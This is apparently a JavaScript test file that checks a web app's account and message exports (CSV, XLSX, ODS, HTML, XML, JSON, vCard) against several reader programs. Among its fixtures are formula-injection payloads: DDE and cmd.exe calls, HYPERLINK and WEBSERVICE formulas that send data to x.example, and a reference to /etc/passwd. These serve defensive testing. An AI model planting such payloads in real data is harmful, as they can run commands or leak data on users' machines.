// readers: what other programs find in our files (issue 3's "Downloads", S16): LibreOffice, openpyxl, exceljs, odfpy, vobject, vnu, unzip and
// file read the accounts, with names in many scripts and names made to do harm, and find what the database has.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { after, decode, env, equal, has, literal, match, ok, require, same, skip, sql, test } from '../lib/harness.mjs';
import { account, changed, manyDeliveries, person, signedIn, uid } from '../lib/scene.mjs';

const folder = mkdtempSync(`${env.REEVE_DIR}/tmp/readers-`), tag = `readers ${uid().slice(0, 8)}`;
const at = (name) => `${folder}/${name}`;
const run = (program, ...args) => execFileSync(program, args, { encoding: 'utf8', stdio: 'pipe', maxBuffer: 1 << 28, env: { ...env, LC_ALL: 'C.UTF-8', HOME: folder } });

// ---- The accounts: names of many scripts, of all that is hostile, and a hundred that a spreadsheet may take for formulas.

const names = [
    'Klinika Wiśniewska', 'Ωδείο Αθηνών', 'Стоматология «Зуб»', '大塚歯科医院', '서울 치과', 'عيادة مرفأ الأسنان', 'מרפאת שיניים', 'क्लिनिक दंत', 'ทันตกรรม',
    'Nhà khoa Đà Nẵng', 'Ærø & Ødegård', 'İstanbul Diş', '🦷 Zahn 👩🏽‍⚕️', 'e\u0301 and \u00e9', '\u202Eright to left\u202C',
    '<b>bold</b> & "quoted" \'n\' ]]> &lt; &amp;', 'comma, semicolon; pipe| \\backslash\\ {brace} %0A', 'two\nlines', 'three\r\nlines\n\nand an end\n', '\ta tab\tin it',
    '  two  spaces   at both ends  ', '_x000D_ _x0041_ _x', 'control \u0001\u0007\u001F', 'not a character \uFFFE\uFFFF', 'delete \u007F', '0123', '1e5', 'TRUE', '2026-11-21',
    'x'.repeat(100), '大'.repeat(100), '#REF!', '$(value)', '"', "'", '{{7*7}}',
];
const bases = [
    '=1+1', '=SUM(A1:A9)', '+1+1', '-1+1', '@SUM(1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"y")', '=IMPORTXML("http://x.example","//a")',
    '=WEBSERVICE("http://x.example/"&A2)', '=DDE("cmd";"/C calc";"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=1/0', '=A1', '=INDIRECT("A1")', '=1+1;', '={1;2}',
    '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe\'!\'\'', '=IMAGE("http://x.example/a.png")', '=TRUE()', '=NOW()', '=\u00A01+1', '=-1', '=@A1', '=\'file:///etc/passwd\'#$A.A1',
];
const formulas = bases.flatMap((base) => [base, `\t${base}`, `\r${base}`, `${base}","=1+1`]);
const zone = 'Europe/Amsterdam';
const who = person('Administrator (Secure)'), browser = signedIn(who);

// What the database has, with the characters replaced that XML forbids.
const clean = (text) => text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '\uFFFD');
const quoted = (text) => `CONVERT(X'${Buffer.from(text).toString('hex')}' USING utf8mb4)`;
const hex = (text) => Buffer.from(text, 'hex').toString();
let rows, said, takeBack = () => {};

test('S16 accounts with names in many scripts, hostile ones, and a hundred formulas', async () => {
    const owned = await account(browser, 'Readers & Co');
    takeBack = manyDeliveries(20);
    const insert = (name, i) => `INSERT INTO account (uid, name, email, email_key, phone, website, street, city, plan_id, setup_state, nickname, created_at, last_activity_at)
        VALUES ('${uid()}', ${quoted(name)}, 'a${i}@client.example', 'a${i}@client.example', '${i % 3 ? '+31201234567' : ''}', '${i % 3 ? 'https://client.example/' : ''}', ${quoted(i % 2 ? name : '')},
            '${i % 2 ? 'Łódź; centrum, 2' : ''}', ${1 + i % 4}, '${i % 2 ? 'onboarding' : 'in_setup'}', ${i % 5 ? `'n${uid().slice(0, 9)}'` : 'NULL'},
            '2026-03-29 00:59:59' + INTERVAL ${i * 7919} SECOND, '2026-10-25 00:30:00.5' + INTERVAL ${i} MINUTE);
        INSERT INTO account_tag VALUES (LAST_INSERT_ID(), @tag);`;
    sql(`UPDATE person SET time_zone = '${zone}' WHERE id = ${who.id};
        INSERT INTO tag (kind, name, name_key) VALUES ('account', ${literal(tag)}, ${literal(tag)});
        SET @tag = LAST_INSERT_ID();
        INSERT INTO account_tag SELECT id, @tag FROM account WHERE uid = '${owned}';
        ${[...names, ...formulas].map(insert).join('\n')}`);
    changed(owned, 'secure = 1');
    rows = new Map(sql(`SELECT a.uid, HEX(a.name) AS name, a.nickname, a.email, a.status, p.name AS plan, o.name AS owner, p.staff_limit, a.phone, a.website, a.city, HEX(a.street) AS street,
            (SELECT COUNT(*) FROM staff s WHERE s.account_id = a.id AND s.active = 1) AS staff, a.created_at, a.last_activity_at, a.secure
          FROM account_tag g JOIN account a ON a.id = g.account_id JOIN tag t ON t.id = g.tag_id JOIN plan p ON p.id = a.plan_id LEFT JOIN person o ON o.id = a.owner_id
         WHERE t.name = ${literal(tag)}`).map((r) => [r.uid, { ...r, name: clean(hex(r.name)), street: clean(hex(r.street)) }]));
    equal(rows.size, names.length + 101);
});

const files = [
    ['plain.csv', 'accounts.csv'], ['sheet.csv', 'accounts.csv', 'for=spreadsheet'], ['xlsx.xlsx', 'accounts.xlsx'], ['ods.ods', 'accounts.ods'], ['fods.fods', 'accounts.fods'],
    ['html.html', 'accounts.html'], ['xml.xml', 'accounts.xml', 'whole=1'], ['json.json', 'accounts.json', 'whole=1'], ['three.vcf', 'accounts.vcf'], ['four.vcf', 'accounts.vcf', 'version=4.0'],
    ...['csv', 'xlsx', 'ods', 'fods', 'html', 'xml', 'json'].map((format) => [`messages.${format}`, `messages.${format}`, 'whole=1']),
];

test("issue 3's downloads: each format of accounts and messages comes, by its type and name", async () => {
    const types = { csv: 'text/csv', xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', ods: 'application/vnd.oasis.opendocument.spreadsheet',
        fods: 'application/vnd.oasis.opendocument.spreadsheet-flat-xml', vcf: 'text/vcard', html: 'text/html', xml: 'application/xml', json: 'application/json' };
    mkdirSync(at('office'));
    for (const [name, path, more] of files) {
        const query = [path.startsWith('accounts') && `tag=${encodeURIComponent(tag)}`, more].filter(Boolean).join('&');
        const answer = await browser.get(`/${path}?${query}`);
        equal(answer.status, 200, name);
        equal(answer.headers['content-type'].split(';')[0], types[path.split('.')[1]]);
        equal(answer.headers['content-disposition'], `attachment; filename="${path}"`);
        writeFileSync(at(name), answer.body);
    }
});

test('unzip and file know the formats', () => {
    if (!has('unzip') || !has('file')) skip('unzip or file is not installed');
    for (const name of ['xlsx.xlsx', 'ods.ods', 'messages.xlsx', 'messages.ods']) match(run('unzip', '-t', at(name)), /No errors detected/);
    const kinds = Object.fromEntries(run('file', '-b', ...files.map(([name]) => at(name))).trim().split('\n').map((line, i) => [files[i][0], line]));
    equal(kinds['xlsx.xlsx'], 'Microsoft Excel 2007+');
    equal(kinds['ods.ods'], 'OpenDocument Spreadsheet');
    match(kinds['three.vcf'], /^vCard visiting card/);
    match(kinds['messages.csv'], /^CSV /);
    match(kinds['fods.fods'], /^XML 1\.0 document|OpenDocument/);
    match(kinds['html.html'], /^HTML document/);
    match(kinds['json.json'], /^JSON/);
});

test('the page is valid HTML', () => {
    try {
        run('java', '-Xss4m', '-XX:TieredStopAtLevel=1', '-XX:+UseSerialGC', '-jar', require.resolve('vnu-jar/build/dist/vnu.jar'), '--errors-only', '--format', 'text', at('html.html'), at('messages.html'));
    } catch (e) {
        if (e.code === 'ENOENT') skip('Java is not installed');
        throw new Error(e.stderr);
    }
}, 120);

// ---- Readers.

const columns = ['name', 'uid', 'nickname', 'email', 'status', 'plan', 'owner', 'staff', 'staff_limit', 'created_at', 'last_activity_at', 'secure'];
const heads = ['Account', 'UID', 'Nickname', 'E-mail', 'Status', 'Plan', 'Owner', 'Staff', 'Staff limit', 'Created', 'Last activity', 'Secure'];
const statuses = { active: 'Active', in_setup: 'In setup' };
const clock = new Intl.DateTimeFormat('sv-SE', { timeZone: zone, dateStyle: 'short', timeStyle: 'medium' });
/** A time of the database in the viewer's zone: "2026-03-29 03:00:00". */
const local = (utc) => clock.format(new Date(`${utc.slice(0, 19).replace(' ', 'T')}Z`));

/** A row as a spreadsheet has it: words for codes, numbers, times without a zone, yes and no. */
const typed = (r) => [r.name, r.uid, r.nickname, r.email, statuses[r.status], r.plan, r.owner, Number(r.staff), Number(r.staff_limit),
    local(r.created_at).replace(' ', 'T'), local(r.last_activity_at).replace(' ', 'T'), r.secure === '1'];

/** Each row that a reader has found is what the database has, by its UID. `name`: what becomes of a name there. */
function agree(found, expected, { name = (x) => x, key = 1 } = {}) {
    equal(found.length, rows.size);
    same(new Set(found.map((row) => row[key])), new Set(rows.keys()));
    const wrong = found.filter((row) => {
        const wanted = expected(rows.get(row[key]));
        wanted[0] = name(wanted[0]);
        return JSON.stringify(row) !== JSON.stringify(wanted);
    }).map((row) => `${JSON.stringify(row)} and not ${JSON.stringify(expected(rows.get(row[key])))}`);
    equal(wrong.length, 0, wrong.slice(0, 5).join('\n'));
}

/** What OpenDocument can say of line ends; what readers make of "_x000D_" that do not take "_x005F_" back, as Excel and LibreOffice do. */
const lines = (v) => v.replaceAll('\r', '');
const escaped = (v) => v.replace(/_(?=x[\da-f]{4}_)/gi, '_x005F_');

/** The rows of a file that a program in Python has read, without the head. */
function table(name) {
    if (!said) skip('LibreOffice or Python did not read');
    same(said[name].rows[0].map(([, v]) => v), heads);
    return said[name].rows.slice(1).map((row) => [...row, ...Array(12).fill([null, null, false])].slice(0, 12));
}
const values = (rows) => rows.map((row) => row.map(([, v]) => v));
/** Texts that were taken for formulas. LibreOffice makes TRUE() and FALSE() of the yes and no of a workbook: the last column is not a text. */
const taken = (rows) => rows.flatMap((row) => row.slice(0, 11).filter(([, , formula]) => formula));

/** RFC 4180, and no other. */
function csv(bytes) {
    const out = [[]];
    let rest = bytes;
    while (rest) {
        const [all, quoted, plain, end] = rest.match(/^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/);
        out.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
        rest = rest.slice(all.length);
        if (end !== ',' && rest) out.push([]);
    }
    return out;
}

test('plain CSV, XML and JSON say what the database has, in codes and ISO 8601', () => {
    const iso = (utc) => { const at = local(utc).replace(' ', 'T'); return `${at}+0${(Date.parse(`${at}Z`) - Date.parse(`${utc.slice(0, 19).replace(' ', 'T')}Z`)) / 3600000}:00`; };
    const coded = (r) => [r.name, r.uid, r.nickname, r.email, r.status, r.plan, r.owner, Number(r.staff), Number(r.staff_limit), iso(r.created_at), iso(r.last_activity_at), r.secure === '1'];
    const [head, ...found] = csv(readFileSync(at('plain.csv'), 'utf8'));
    same(head, columns);
    agree(found, (r) => coded(r).map((v) => String(v ?? '')));
    const { accounts } = JSON.parse(readFileSync(at('json.json'), 'utf8'));
    agree(accounts.account.map((a) => columns.map((name) => a[name] ?? null)), coded);
    const xml = [...readFileSync(at('xml.xml'), 'utf8').matchAll(/<account ([^>]*)\/>/g)]
        .map(([, inside]) => Object.fromEntries([...inside.matchAll(/(\w+)="([^"]*)"/g)].map(([, name, v]) => [name, decode(v)])));
    agree(xml.map((a) => columns.map((name) => a[name] ?? null)), (r) => coded(r).map((v) => (v === null ? null : String(v))));
});

test('S16 the CSV for spreadsheets: the mark of UTF-8, words, and a sign before what may be a formula', () => {
    const bytes = readFileSync(at('sheet.csv'), 'utf8');
    equal(bytes[0], '\uFEFF');
    const [head, ...found] = csv(bytes.slice(1));
    same(head, heads);
    const guard = (v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    agree(found, (r) => [guard(r.name), r.uid, ...[r.nickname, r.email].map((v) => guard(v ?? '')), statuses[r.status], r.plan, r.owner ?? '', r.staff, r.staff_limit, local(r.created_at), local(r.last_activity_at), r.secure === '1' ? 'Yes' : 'No']);
    ok(found.filter((row) => row[0].startsWith("'")).length >= 100);
});

test('LibreOffice opens the spreadsheets; openpyxl, odfpy and vobject read', () => {
    if (!has('soffice')) skip('LibreOffice is not installed');
    if (!['openpyxl', 'odf', 'vobject'].every((name) => existsSync(`/usr/lib/python3/dist-packages/${name}`))) skip('openpyxl, odfpy or vobject is not installed');
    const office = (...args) => run('soffice', `-env:UserInstallation=file://${folder}/profile`, '--headless', ...args.slice(0, -1), '--convert-to', 'fods', '--outdir', at('office'), ...args.at(-1).map(at));
    office(['xlsx.xlsx', 'ods.ods', 'fods.fods']);
    office('--infilter=Text - txt - csv (StarCalc):44,34,76,1', ['sheet.csv', 'plain.csv']);
    said = JSON.parse(run('/usr/bin/python3', new URL('readers.py', import.meta.url).pathname, folder));
}, 120);

test('S16 LibreOffice finds in the workbook what the database has, and no formula', () => {
    const found = table('office/xlsx.fods');
    same(taken(found), []);
    agree(values(found).map((row) => [...row.slice(0, 11), Boolean(row[11])]), typed, { name: (v) => v.replaceAll('\r\n', '\n') });
});

test('S16 LibreOffice finds in OpenDocument what the database has, and no formula', () => {
    for (const name of ['office/ods.fods', 'office/fods.fods']) {
        const found = table(name);
        same(taken(found), []);
        agree(values(found), typed, { name: (v) => lines(v).replaceAll('\t', '') }); // which it writes and does not read (7.4)
    }
});

test('S16 LibreOffice finds no formula in the CSV for spreadsheets; in plain CSV it does', () => {
    const found = table('office/sheet.fods');
    same(taken(found), []);
    ok(taken(said['office/plain.fods'].rows).length >= 25);
    equal(found.filter((row) => String(row[0][1]).startsWith("'")).length, [...rows.values()].filter((r) => /^['=+\-@\t\r]/.test(r.name)).length);
});

test('S16 openpyxl finds in the workbook what the database has, and no formula', () => {
    const found = table('xlsx.xlsx');
    same(taken(found), []);
    agree(values(found), typed, { name: escaped });
    const { title, frozen, bold } = said['xlsx.xlsx'];
    same([title, frozen, bold], ['Client Accounts', 'A2', true]);
    same(new Set(found.map((row) => row.map(([kind]) => kind).slice(7).join(''))), new Set(['nnddb']));
});

test('S16 exceljs finds in the workbook what the database has, and no formula', async () => {
    const book = new (require('exceljs').Workbook)();
    await book.xlsx.readFile(at('xlsx.xlsx'));
    const found = [];
    book.worksheets[0].eachRow((row) => found.push(Array.from({ length: 12 }, (_, i) => row.getCell(i + 1))));
    same(found[0].map((cell) => cell.value), heads);
    equal(found.flat().filter((cell) => cell.formula || cell.type === 6).length, 0);
    agree(found.slice(1).map((row) => row.map(({ value: v }) => (v instanceof Date ? new Date(Math.round(v.getTime() / 1000) * 1000).toISOString().slice(0, 19) : v))), typed, { name: escaped });
});

test('odfpy finds in OpenDocument what the database has', () => {
    agree(values(table('ods.ods')), typed, { name: lines });
});

test('vobject finds in the cards what the database has, 3.0 and 4.0; lines have at most 75 octets', () => {
    for (const [name, version] of [['three.vcf', '3.0'], ['four.vcf', '4.0']]) {
        if (!said) skip('Python did not read');
        const bytes = readFileSync(at(name));
        ok(bytes.toString('latin1').split('\r\n').every((line) => line.length <= 75 && !/[\r\n]/.test(line)));
        ok(bytes.toString('utf8').split('\r\n').every((line) => !line.includes('\uFFFD') || /control|not a/.test(line)), 'a character is cut');
        const cards = said[name], told = (v) => v.replaceAll('\r', '').replaceAll('\u007F', '');
        equal(cards.length, rows.size);
        for (const card of cards) {
            const r = rows.get(card.uid), name = told(r.name), { fn, org, email, tel, url, adr } = card;
            same({ version: card.version, fn, org, email, tel, url, adr },
                { version, fn: name, org: [name], email: r.email, tel: r.phone || undefined, url: r.website || undefined, adr: r.city ? [told(r.street), r.city, '', '', ''] : undefined });
        }
    }
});

after(() => {
    takeBack();
    rmSync(folder, { recursive: true, force: true });
    sql(`DELETE g FROM account_tag g JOIN tag t ON t.id = g.tag_id WHERE t.name = ${literal(tag)};
        DELETE FROM account WHERE email LIKE 'a%@client.example' AND id NOT IN (SELECT account_id FROM staff); DELETE FROM tag WHERE name = ${literal(tag)}`);
});
